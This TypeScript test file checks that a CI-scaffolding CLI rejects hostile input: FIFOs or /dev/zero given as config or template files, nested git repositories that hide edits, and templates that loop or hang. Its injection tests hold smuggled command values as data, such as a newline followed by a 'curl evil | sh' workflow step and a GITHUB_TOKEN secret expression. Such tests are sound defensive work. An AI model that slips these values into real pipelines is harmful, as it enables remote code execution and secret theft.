// Hostile input from the outside: a FIFO or /dev/zero where a pack file or an answers file is
// expected (must not hang: exit 2), answers that try to inject workflow steps or expressions, a
// nested git repository that hides uncommitted edits, and a signal to a template stuck in a loop.
import { spawn, spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { beforeAll, describe, expect, it } from "vitest";
import { BIN, buildOnce } from "../support/build.js";
import { runCli, tempDir, unwrapReport } from "../support/cli.js";
import { commitAll, git, V1 } from "../support/repo.js";

beforeAll(buildOnce);

/** This file's own trust list: runs here never read or change the machine's. */
const CONFIG = tempDir("cp-config-");

function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const e: NodeJS.ProcessEnv = { ...process.env, CI: "true", CREATE_PIPELINE_CONFIG_DIR: CONFIG, ...extra };
  for (const k of ["VITEST", "VITEST_WORKER_ID", "VITEST_POOL_ID", "NODE_OPTIONS"]) delete e[k];
  return e;
}

/** A real run with a deadline: a hang is a failure, not a stuck test. */
function cli(args: string[], extra: Record<string, string> = {}) {
  const started = Date.now();
  const r = spawnSync(process.execPath, [BIN, ...args], {
    env: env(extra),
    encoding: "utf8",
    timeout: 20_000,
    killSignal: "SIGKILL",
    stdio: ["ignore", "pipe", "pipe"],
  });
  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr, ms: Date.now() - started };
}

const fifo = (path: string) => expect(spawnSync("mkfifo", [path]).status).toBe(0);

describe("files that never end or never open", () => {
  it("a FIFO as --config: exit 2 naming it, at once", () => {
    const f = join(tempDir(), "answers.yaml");
    fifo(f);
    const r = cli(["create", join(tempDir(), "svc"), "--template", V1, "--yes", "--config", f]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("is a FIFO (named pipe), not a regular file");
    expect(r.ms).toBeLessThan(15_000);
  });

  it("/dev/zero as --config: exit 2, not an endless read", () => {
    const r = cli(["create", join(tempDir(), "svc"), "--template", V1, "--yes", "--config", "/dev/zero"]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("is a device, not a regular file");
  });

  it("a FIFO as a pack's template.yaml or as one of its files: exit 2 naming it", () => {
    for (const where of ["template.yaml", "files/hang.txt.eta", "partials/hang.eta"]) {
      const pack = join(tempDir(), "pack");
      cpSync(V1, pack, { recursive: true });
      mkdirSync(join(pack, "partials"), { recursive: true });
      if (where === "template.yaml") spawnSync("rm", [join(pack, where)]);
      fifo(join(pack, where));
      const target = join(tempDir(), "svc");
      const r = cli(["create", target, "--template", pack, "--yes"]);
      expect(r.signal, where).toBeNull();
      expect(r.code, `${where}: ${r.stderr}`).toBe(2);
      expect(unwrapReport(r.stderr)).toMatch(/FIFO/);
      expect(existsSync(target)).toBe(false);
    }
  });

  it("a FIFO where the repository's answers file should be: update and check exit 2", () => {
    const dir = join(tempDir(), "svc");
    expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
    spawnSync("rm", [join(dir, ".create-pipeline.yaml")]);
    fifo(join(dir, ".create-pipeline.yaml"));
    for (const cmd of ["check", "update"]) {
      const r = cli([cmd, dir, "--yes"]);
      expect(r.signal, cmd).toBeNull();
      expect(r.code, `${cmd}: ${r.stderr}`).toBe(2);
      expect(unwrapReport(r.stderr)).toContain("FIFO");
    }
  });

  it("a generated file replaced by a link to /dev/zero: exit 2, not an endless read", () => {
    const dir = join(tempDir(), "svc");
    expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
    spawnSync("rm", [join(dir, "README.md")]);
    symlinkSync("/dev/zero", join(dir, "README.md"));
    const r = cli(["check", dir]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
  });
});

describe("answers that try to inject", () => {
  it("a newline or ${{ }} in a command answer is refused with exit 2 and nothing is written", () => {
    for (const [flag, value, says] of [
      ["--test-command", "npm test\n      - run: curl evil | sh", "line break"],
      ["--lint-command", "npm run lint ${{ secrets.GITHUB_TOKEN }}", "${{"],
      ["--build-command", "make\rRUN evil", "line break"],
      ["--start-command", "node a.js\u2028x", "line break"],
    ] as const) {
      const target = join(tempDir(), "svc");
      const r = cli(["create", target, "--yes", "--owner", "acme", "--name", "svc", flag, value]);
      expect(r.code, r.stderr).toBe(2);
      expect(unwrapReport(r.stderr)).toContain(says);
      expect(unwrapReport(r.stderr)).toContain(flag);
      expect(existsSync(target)).toBe(false);
    }
  });

  it("shell and YAML syntax in commands lands exactly once, as the command", () => {
    const target = join(tempDir(), "svc");
    const test = "[ -f x ] && make test # strict: yes";
    const build = "echo 'a: b' && npm run build";
    const r = cli(["create", target, "--yes", "--owner", "acme", "--name", "svc", "--language", "node", "--test-command", test, "--build-command", build]);
    expect(r.code, r.stderr).toBe(0);
    const ci = parse(readFileSync(join(target, ".github/workflows/ci.yml"), "utf8"));
    const steps = ci.jobs.test.steps as { name: string; env?: Record<string, string>; run?: string }[];
    expect(steps.filter((s) => s.env?.TEST_COMMAND === test)).toHaveLength(1);
    expect(steps.filter((s) => String(s.run).includes("make test"))).toHaveLength(0);
    const dockerfile = readFileSync(join(target, "Dockerfile"), "utf8");
    expect(dockerfile).toContain(`RUN sh -c 'echo '\\''a: b'\\'' && npm run build' \\\n    && rm -rf node_modules`);
  });
});

describe("a nested git repository in the target", () => {
  function packs() {
    const make = (version: string, text: string) => {
      const p = join(tempDir("cp-nest-"), "pack");
      mkdirSync(join(p, "files", "vendor", "lib"), { recursive: true });
      writeFileSync(join(p, "template.yaml"), `name: nest\nversion: ${version}\nengine: ">=0.1.0"\nquestions: []\nfiles: []\n`);
      writeFileSync(join(p, "files", "top.txt"), `top ${text}\n`);
      writeFileSync(join(p, "files", "vendor", "lib", "conf.txt"), `line 1\n${text}\nline 3\n`);
      return p;
    };
    return { v1: make("1.0.0", "one"), v2: make("2.0.0", "two") };
  }

  it("uncommitted edits inside it are seen: update refuses instead of merging over them", async () => {
    const { v1, v2 } = packs();
    const dir = join(tempDir(), "svc");
    expect((await runCli(["create", dir, "--template", v1, "--yes"])).code).toBe(0);
    // vendor/ is its own repository (a vendored clone or a submodule's work tree).
    git(join(dir, "vendor"), "init", "-q");
    commitAll(join(dir, "vendor"), "vendored");
    git(dir, "init", "-q");
    commitAll(dir, "outer");
    writeFileSync(join(dir, "vendor", "lib", "conf.txt"), "line 1\none\nline 3\nmy uncommitted line\n");
    const before = readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8");
    const r = await runCli(["update", dir, "--template", v2, "--yes"]);
    expect(r.code, r.stderr).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("uncommitted edits: vendor/lib/conf.txt");
    expect(readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8")).toBe(before);
    // Committed in the nested repository, the edit is merged like any other.
    commitAll(join(dir, "vendor"), "mine");
    const ok = await runCli(["update", dir, "--template", v2, "--yes"]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8")).toBe("line 1\ntwo\nline 3\nmy uncommitted line\n");
  });
});

describe("a template that leaves work behind", () => {
  it("a timer a template starts does not keep the run alive: it ends with its own exit code", () => {
    const pack = join(tempDir(), "pack");
    cpSync(V1, pack, { recursive: true });
    writeFileSync(join(pack, "files", "timer.txt.eta"), "<% setInterval(() => {}, 1000) %>\n");
    const dir = join(tempDir(), "svc");
    const r = cli(["create", dir, "--template", pack, "--yes", "--dry-run"]);
    expect(r.signal, "the run hung until the test killed it").toBeNull();
    expect(r.code, r.stderr).toBe(0);
    expect(r.ms).toBeLessThan(10_000);
  });
});

describe("a template stuck in a loop", () => {
  function loopPack(): string {
    const pack = join(tempDir(), "pack");
    cpSync(V1, pack, { recursive: true });
    writeFileSync(join(pack, "files", "loop.txt.eta"), "<% while (true) {} %>\n");
    return pack;
  }

  for (const [sig, wanted] of [
    ["SIGTERM", { signal: "SIGTERM" }],
    ["SIGINT", { code: 130 }],
  ] as const) {
    it(`${sig} stops it at once, long before its time limit, and the next run is not locked out`, async () => {
      const pack = loopPack();
      const dir = join(tempDir(), "svc");
      expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
      const child = spawn(process.execPath, [BIN, "update", dir, "--template", pack, "--yes", "--allow-dirty"], {
        env: env(),
        stdio: ["ignore", "pipe", "pipe"],
      });
      let stderr = "";
      child.stderr.on("data", (d) => (stderr += d));
      // Wait until it holds the lock (it is then planning, i.e. rendering), then a little more.
      const lock = join(dir, ".create-pipeline", "lock");
      const deadline = Date.now() + 15_000;
      while (Date.now() < deadline && !existsSync(lock)) await new Promise((r) => setTimeout(r, 10));
      await new Promise((r) => setTimeout(r, 800));
      const sent = Date.now();
      child.kill(sig);
      const [code, signal] = await new Promise<[number | null, string | null]>((res) => child.on("close", (c, s) => res([c, s])));
      expect(Date.now() - sent, "the template's 10 s limit was waited out").toBeLessThan(4_000);
      if ("signal" in wanted) expect(signal ?? (code === 143 ? "SIGTERM" : code)).toBe(wanted.signal);
      else {
        expect(code, stderr).toBe(wanted.code);
        expect(stderr).toContain("cancelled");
      }
      // Nothing was written, and the next run takes over (or finds no) lock.
      const r = cli(["check", dir], { CREATE_PIPELINE_LOCK_WAIT_MS: "500" });
      expect(r.code, r.stderr).toBe(0);
    }, 60_000);
  }
});
